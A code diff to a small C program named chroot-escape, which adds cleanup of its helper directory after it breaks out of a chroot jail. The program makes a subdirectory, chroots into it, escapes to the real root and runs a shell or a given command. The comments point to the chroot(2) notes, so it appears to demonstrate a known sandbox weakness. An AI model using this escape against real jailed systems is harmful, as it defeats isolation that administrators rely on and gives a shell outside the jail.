@@ -15,6 +15,7 @@
  * Read: chroot(2) (NOTES), pivot_root(2).
  */
 #include <errno.h>
+#include <fcntl.h>
 #include <stdio.h>
 #include <string.h>
 #include <sys/stat.h>
@@ -25,6 +26,13 @@ int main(int argc, char **argv)
 	static char *shell[] = { "/bin/sh", NULL };
 	char **command = argc > 1 ? argv + 1 : shell;
 
+	/* The jail's root, to remove our directory from it once we are out. */
+	int jail = open(".", O_PATH | O_DIRECTORY | O_CLOEXEC);
+
+	if (jail < 0) {
+		perror("chroot-escape: open .");
+		return 1;
+	}
 	if (mkdir("chroot-escape.d", 0700) < 0 && errno != EEXIST) {
 		perror("chroot-escape: mkdir chroot-escape.d");
 		return 1;
@@ -44,6 +52,9 @@ int main(int argc, char **argv)
 		perror("chroot-escape: chroot .");
 		return 1;
 	}
+	if (unlinkat(jail, "chroot-escape.d", AT_REMOVEDIR) < 0)
+		perror("chroot-escape: rmdir chroot-escape.d");
+	close(jail);
 	fprintf(stderr, "chroot-escape: out; running %s\n", command[0]);
 	execvp(command[0], command);
 	fprintf(stderr, "chroot-escape: exec %s: %s\n", command[0],
